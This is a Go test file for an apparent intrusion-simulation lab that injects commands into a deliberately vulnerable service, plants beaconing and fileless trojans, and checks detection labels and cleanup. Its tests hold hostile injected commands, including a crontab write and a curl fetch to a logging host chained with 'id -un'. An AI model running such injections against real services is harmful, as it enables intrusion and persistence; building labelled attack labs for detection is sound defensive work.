package lab

import (
	"bytes"
	"context"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

func TestIntrusionHappensAndLeavesNothing(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root: makes network namespaces")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	lab, err := Start(ctx, Options{Name: "baize-labtest", Beacons: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := lab.Close(); err != nil {
			t.Error(err)
		}
		for _, round := range Rounds {
			if _, err := os.Stat(round.Path); err == nil {
				t.Errorf("%s is left", round.Path)
			}
		}
	}()
	if err := lab.Health(ctx, Web); err != nil {
		t.Fatal(err)
	}
	honest, err := lab.Inject(ctx, "true")
	if err != nil || !strings.HasSuffix(honest, "localhost\n") {
		t.Fatalf("the service does not do its work: %q, %v", honest, err)
	}
	for _, round := range Rounds {
		if _, err := lab.Inject(ctx, round.Command()); err != nil {
			t.Fatal(err)
		}
		if err := lab.WaitBeacon(ctx, round.Path, 1); err != nil {
			t.Fatal(err)
		}
	}
	for _, command := range Rounds[0].Fileless() {
		if answer, err := lab.Inject(ctx, command); err != nil || answer != honest {
			t.Errorf("%s answered %q, %v", command, answer, err)
		}
	}
	before, _ := os.ReadFile(Crontab)
	if answer, err := lab.Inject(ctx, "echo job > "+Crontab+"; cat "+Crontab); err != nil || answer != honest+"job\n" {
		t.Errorf("the victim has no crontab of its own: %q, %v", answer, err)
	}
	if after, _ := os.ReadFile(Crontab); !bytes.Equal(after, before) {
		t.Errorf("the machine's own %s changed: %q", Crontab, after)
	}
	if answer, err := lab.Inject(ctx, "curl -s http://"+DNSLog+"/t > /dev/null; id -un"); err != nil || !strings.Contains(answer, serviceUser) {
		t.Errorf("injected command answered %q, %v", answer, err)
	}
	checkLabels(t, lab.Labels())
}

func checkLabels(t *testing.T, labels Labels) {
	t.Helper()
	if len(labels.Shells) != len(labels.Commands) {
		t.Errorf("%d shells for %d commands", len(labels.Shells), len(labels.Commands))
	}
	var images []string
	for _, trojan := range labels.Trojans {
		images = append(images, trojan.Path)
	}
	if len(images) != 4 || images[0] != Rounds[0].Path || images[1] != Rounds[1].Path ||
		!strings.HasPrefix(images[2], "/memfd:") || !strings.HasSuffix(images[3], " (deleted)") {
		t.Errorf("images %q", images)
	}
	if labels.Beacons < 2*len(images) {
		t.Errorf("%d beacons of %d trojans", labels.Beacons, len(images))
	}
	if want := []string{"/t", "/u", "/t"}; !slices.Equal(labels.Downloads, want) {
		t.Errorf("downloads %v, want %v", labels.Downloads, want)
	}
	if !slices.Contains(labels.Queries, DNSLog) {
		t.Errorf("queries %v lack %s", labels.Queries, DNSLog)
	}
}

func TestAFleetHasASecondHostAndAContainer(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("needs root: makes network namespaces, control groups and a container")
	}
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
	defer cancel()
	const name = "baize-labfleet"
	hosts, err := Fleet(name)
	defer func() {
		if err := Disband(name, hosts); err != nil {
			t.Error(err)
		}
	}()
	if err != nil {
		t.Fatal(err)
	}
	lab, err := Start(ctx, Options{Name: name, Beacons: 2, Hosts: hosts, Docker: t.TempDir() + "/docker.sock"})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := lab.Close(); err != nil {
			t.Error(err)
		}
	}()
	if answer, err := lab.Fetch(ctx, "http://"+DNSLog+"/"); err != nil || !slices.Contains(lab.Labels().Queries, DNSLog) {
		t.Errorf("fetched %q, %v; queries %v", answer, err, lab.Labels().Queries)
	}
	round := Rounds[1]
	for _, host := range []string{Web, Second} {
		if answer, err := lab.InjectInto(ctx, host, "ls /dev/shm"); err != nil || answer != "127.0.0.1       localhost\n" {
			t.Errorf("%s begins with %q in shared memory, %v", host, answer, err)
		}
		if _, err := lab.InjectInto(ctx, host, round.Command()); err != nil {
			t.Fatal(err)
		}
	}
	if err := lab.WaitBeacon(ctx, round.Path, 2); err != nil {
		t.Fatal(err)
	}
	for host, pid := range lab.Services() {
		groups, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cgroup")
		if err != nil || !strings.Contains(string(groups), name+"-"+host+"/") {
			t.Errorf("service %d of %s is in %q, %v", pid, host, groups, err)
		}
	}
	if _, err := os.Stat(round.Path); err == nil {
		t.Errorf("%s is on the machine itself", round.Path)
	}
}
